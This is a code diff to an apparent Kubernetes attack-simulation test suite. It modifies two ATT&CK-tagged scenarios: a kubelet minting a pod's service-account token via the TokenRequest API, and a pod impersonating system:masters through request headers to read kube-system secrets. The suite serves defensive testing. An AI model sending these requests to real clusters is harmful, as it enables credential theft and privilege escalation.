@@ -56,7 +56,7 @@ func kubelet(s *stage.Stage, node *stage.Actor, settlement *stage.Pod, street st
 	})
 	var token string
 	s.Attack("T1528", "Credential Access: Access container service account", "has a token made for "+settlement.String()+", as its kubelet may").
-		As(node).Do(func(a *stage.Act) {
+		On(settlement).As(node).Do(func(a *stage.Act) {
 		uid := s.Admin().Must("-n", "payments", "get", "pod", settlement.Name, "-o", "jsonpath={.metadata.uid}")
 		_, body := a.Request(curl, "POST", "/api/v1/namespaces/payments/serviceaccounts/payments-api/token",
 			`{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"boundObjectRef":{"apiVersion":"v1","kind":"Pod","name":"`+settlement.Name+`","uid":"`+uid+`"}}}`)
@@ -183,7 +183,7 @@ func rights(s *stage.Stage, masters *stage.Actor) {
 	})
 	web := s.Pod("shop", "app=web").ServiceAccount()
 	s.Attack("T1134", "Privilege Escalation: Impersonation", "in a pod of shop, acts as the administrators' group by bare headers").
-		As(web).Do(func(a *stage.Act) {
+		As(web).Assuming("svc-health").Do(func(a *stage.Act) {
 		a.Request(curl, "GET", "/api/v1/namespaces/kube-system/secrets", "", "Impersonate-User: svc-health", "Impersonate-Group: system:masters")
 	})
 }
